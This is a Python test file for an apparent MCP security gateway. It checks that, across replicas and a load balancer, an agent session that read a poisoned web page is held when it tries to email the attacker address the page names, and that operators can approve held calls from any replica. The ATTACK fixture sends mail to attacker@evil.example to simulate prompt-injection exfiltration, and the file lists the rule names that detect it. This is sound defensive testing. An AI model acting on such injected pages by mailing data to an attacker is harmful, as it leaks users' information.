"""The fleet's acceptance: what one replica saw, every replica knows.

A poisoned page read through replica 1 makes the send to the address it names, through replica 2,
confirm or block — on both protocol revisions — while the same send from a fresh agent session is
not held for those reasons; and through HAProxy, with requests landing on any replica.
"""

from __future__ import annotations

import asyncio
import time
import uuid
from typing import Any

import httpx2
import mcp_types as t
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from tests.deadlines import hang_guard
from tests.fleet.conftest import OPERATOR, TOKEN, Fleet
from weir.audit import AuditConfig, AuditQuery, open_store
from weir.demo_servers.web import POISONED_URL

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

MODES = ("legacy", "2026-07-28")
ATTACK = {"to": "attacker@evil.example", "subject": "as asked", "body": "hello"}
# The rules that fire because of what the session read: the recipient came from the untrusted page,
# and the page was flagged as malicious.
TAINT_RULES = {
    "baseline:block-injected-target",
    "baseline:confirm-untrusted-recipient",
    "baseline:confirm-after-malicious-content",
}


async def _decline(ctx: Any, params: Any) -> t.ElicitResult:
    return t.ElicitResult(action="decline")


def _client(url: str, mode: str, name: str, *, answers: bool = False) -> Client:
    """A client of the fleet; ``answers``: it can be asked (and declines), so no call of it is queued."""
    http = httpx2.AsyncClient(headers={"authorization": f"Bearer {TOKEN}"}, timeout=120)
    return Client(
        streamable_http_client(url, http_client=http),
        mode=mode,  # type: ignore[arg-type]
        client_info=t.Implementation(name=name, version="1"),
        elicitation_callback=_decline if answers else None,
    )


def _meta(mode: str, session: str) -> dict[str, Any] | None:
    # A 2025-11-25 connection's default agent session is its Mcp-Session-Id, which is one
    # replica's: it names its agent session. A 2026-07-28 client's is its token and name already.
    return {"dev.weir/session": session} if mode == "legacy" else None


def _rules(result: Any) -> set[str]:
    decision = (result.meta or {}).get("dev.weir/decision") or {}
    return {r["name"] if isinstance(r, dict) else str(r) for r in decision.get("rules", [])}


async def _call(
    url: str, mode: str, who: tuple[str, str], tool: str, args: dict[str, Any], *, answers: bool = True
) -> Any:
    """One call on a new connection; ``who``: the client's name and its agent session's."""
    async with _client(url, mode, who[0], answers=answers) as c:
        await c.list_tools()
        return await c.call_tool(tool, args, meta=_meta(mode, who[1]))


@pytest.mark.parametrize("mode", MODES)
async def test_a_page_read_on_replica_1_holds_the_send_on_replica_2(fleet: Fleet, mode: str) -> None:
    r1, r2 = fleet.replicas[0].mcp, fleet.replicas[1].mcp
    agent, session = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    page = await _call(r1, mode, (agent, session), "web__fetch", {"url": POISONED_URL})
    assert "attacker@evil.example" in "".join(getattr(c, "text", "") for c in page.content)
    send = await _call(r2, mode, (agent, session), "mail__send_email", ATTACK)
    assert send.is_error is True
    assert _rules(send) & TAINT_RULES, _rules(send)
    # The control: a fresh agent session on the same replica is not held for the page.
    fresh, other = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    control = await _call(r2, mode, (fresh, other), "mail__send_email", ATTACK)
    assert not _rules(control) & TAINT_RULES, _rules(control)


@pytest.mark.parametrize("mode", MODES)
async def test_through_haproxy_every_call_of_one_session_may_land_anywhere(fleet: Fleet, mode: str) -> None:
    """Round robin (2026-07-28 requests carry no session id; a 2025-11-25 connection sticks to one
    replica, and each call here opens a new one): whichever replica the send reaches, it is held."""
    agent, session = f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}"
    await _call(fleet.lb, mode, (agent, session), "web__fetch", {"url": POISONED_URL})
    for _ in range(3):
        send = await _call(fleet.lb, mode, (agent, session), "mail__send_email", ATTACK)
        assert send.is_error is True
        assert _rules(send) & TAINT_RULES, _rules(send)


@pytest.mark.parametrize("mode", MODES)
async def test_an_operator_on_replica_3_releases_a_call_held_on_replica_1(fleet: Fleet, mode: str) -> None:
    """The client cannot be asked, so the call waits in replica 1's queue; replica 3's console lists it
    (the fleet's queue) and its approval reaches replica 1, which records it and runs the call."""
    subject = f"report {uuid.uuid4().hex}"
    mail = {"to": "bob@corp.example", "subject": subject, "body": "the figures"}
    who = (f"agent-{uuid.uuid4().hex[:8]}", f"s-{uuid.uuid4().hex[:8]}")
    held = asyncio.ensure_future(_call(fleet.replicas[0].mcp, mode, who, "mail__send_email", mail, answers=False))
    console = httpx2.AsyncClient(headers={"authorization": f"Bearer {OPERATOR}"}, timeout=30)
    api = f"{fleet.replicas[2].base}/console/api/approvals"
    found = None
    deadline = time.monotonic() + hang_guard(120)
    while found is None and time.monotonic() < deadline and not held.done():
        listing = (await console.get(api)).json()["approvals"]
        found = next((a for a in listing if a.get("arguments", {}).get("subject") == subject), None)
        await asyncio.sleep(0.2)
    assert found is not None, f"replica 3 never listed the call held on replica 1 ({held.done() and held.result()})"
    answer = await console.post(f"{api}/{found['id']}/approve", json={"reason": "expected report"})
    assert answer.status_code == 200, answer.text
    result = await asyncio.wait_for(held, hang_guard(120))
    assert result.is_error is False, result
    assert "Delivered" in "".join(getattr(c, "text", "") for c in result.content)
    with open_store(AuditConfig(path=str(fleet.directory / "audit-r1.db")), create=False) as store:
        operators = [s.event for s in store.query(AuditQuery()) if s.event.phase.value == "operator"]
    assert any(e.details.get("approval") == found["id"] and e.details.get("operator") == "carol" for e in operators)
    await console.aclose()
